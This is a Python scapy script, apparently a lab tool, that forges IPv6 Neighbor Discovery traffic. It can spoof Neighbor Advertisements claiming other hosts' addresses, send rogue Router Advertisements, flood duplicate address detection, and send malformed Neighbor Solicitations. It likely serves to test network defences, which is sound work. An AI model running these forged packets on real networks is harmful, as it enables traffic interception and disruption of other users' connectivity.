#!/usr/bin/python3
# Forged ND packets sent from a lab host's eth0, as an attacker there would send them.
#   forge.py na TARGET COUNT          unsolicited NA claiming TARGET with this host's MAC
#   forge.py ra PREFIX/LEN COUNT      router advertisement of PREFIX from this host
#   forge.py dad-flood COUNT          COUNT duplicate address detection NS for random targets
#   forge.py ns-lladdr SRC TARGET LLADDR COUNT
#                                     NS from SRC for TARGET whose source link-layer option is LLADDR
#   forge.py ns-bad KIND SRC TARGET   one malformed NS from SRC for TARGET: KIND is checksum (a wrong
#                                     ICMPv6 checksum), dad-lladdr (from :: with a link-layer option),
#                                     zero-option (an option of length 0) or mcast-target (for ff02::1)
import random
import sys

from scapy.all import (Ether, ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6NDOptDstLLAddr,
                       ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr, IPv6, in6_getnsma, in6_getnsmac,
                       inet_pton, inet_ntop, Raw, sendp)
import socket

IFACE = "eth0"
MAC = open("/sys/class/net/eth0/address").read().strip()


def link_local():
    parts = MAC.split(":")
    first = int(parts[0], 16) ^ 2
    return "fe80::%02x%s:%sff:fe%s:%s%s" % (first, parts[1], parts[2], parts[3], parts[4], parts[5])


def na(target, count):
    p = (Ether(src=MAC, dst="33:33:00:00:00:01") / IPv6(src=target, dst="ff02::1", hlim=255) /
         ICMPv6ND_NA(tgt=target, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=MAC))
    sendp(p, iface=IFACE, count=count, verbose=False)


def ra(prefix, count):
    net, length = prefix.split("/")
    p = (Ether(src=MAC, dst="33:33:00:00:00:01") / IPv6(src=link_local(), dst="ff02::1", hlim=255) /
         ICMPv6ND_RA(routerlifetime=1800) / ICMPv6NDOptSrcLLAddr(lladdr=MAC) /
         ICMPv6NDOptPrefixInfo(prefix=net, prefixlen=int(length), validlifetime=86400,
                               preferredlifetime=14400, L=1, A=1))
    sendp(p, iface=IFACE, count=count, verbose=False)


def dad_flood(count):
    frames = []
    for _ in range(count):
        target = "2001:db8:f::%x:%x" % (random.randrange(65536), random.randrange(65536))
        group = inet_ntop(socket.AF_INET6, in6_getnsma(inet_pton(socket.AF_INET6, target)))
        frames.append(Ether(src=MAC, dst=in6_getnsmac(inet_pton(socket.AF_INET6, group))) /
                      IPv6(src="::", dst=group, hlim=255) / ICMPv6ND_NS(tgt=target))
    sendp(frames, iface=IFACE, verbose=False)


def ns_lladdr(src, target, lladdr, count):
    group = inet_ntop(socket.AF_INET6, in6_getnsma(inet_pton(socket.AF_INET6, target)))
    p = (Ether(src=MAC, dst=in6_getnsmac(inet_pton(socket.AF_INET6, group))) / IPv6(src=src, dst=group, hlim=255) /
         ICMPv6ND_NS(tgt=target) / ICMPv6NDOptSrcLLAddr(lladdr=lladdr))
    sendp(p, iface=IFACE, count=count, verbose=False)


def ns_bad(kind, src, target):
    group = inet_ntop(socket.AF_INET6, in6_getnsma(inet_pton(socket.AF_INET6, target)))
    ether = Ether(src=MAC, dst=in6_getnsmac(inet_pton(socket.AF_INET6, group)))
    if kind == "checksum":
        p = ether / IPv6(src=src, dst=group, hlim=255) / ICMPv6ND_NS(tgt=target, cksum=0x1234)
    elif kind == "dad-lladdr":
        p = ether / IPv6(src="::", dst=group, hlim=255) / ICMPv6ND_NS(tgt=target) / ICMPv6NDOptSrcLLAddr(lladdr=MAC)
    elif kind == "zero-option":
        p = ether / IPv6(src=src, dst=group, hlim=255) / ICMPv6ND_NS(tgt=target) / Raw(b"\x01\x00" + b"\x00" * 6)
    elif kind == "mcast-target":
        p = (Ether(src=MAC, dst="33:33:00:00:00:01") / IPv6(src=src, dst="ff02::1", hlim=255) /
             ICMPv6ND_NS(tgt="ff02::1"))
    else:
        sys.exit("unknown malformation " + kind)
    sendp(p, iface=IFACE, verbose=False)


if __name__ == "__main__":
    kind = sys.argv[1]
    if kind == "na":
        na(sys.argv[2], int(sys.argv[3]))
    elif kind == "ra":
        ra(sys.argv[2], int(sys.argv[3]))
    elif kind == "dad-flood":
        dad_flood(int(sys.argv[2]))
    elif kind == "ns-bad":
        ns_bad(sys.argv[2], sys.argv[3], sys.argv[4])
    elif kind == "ns-lladdr":
        ns_lladdr(sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]))
    else:
        sys.exit("unknown packet kind " + kind)
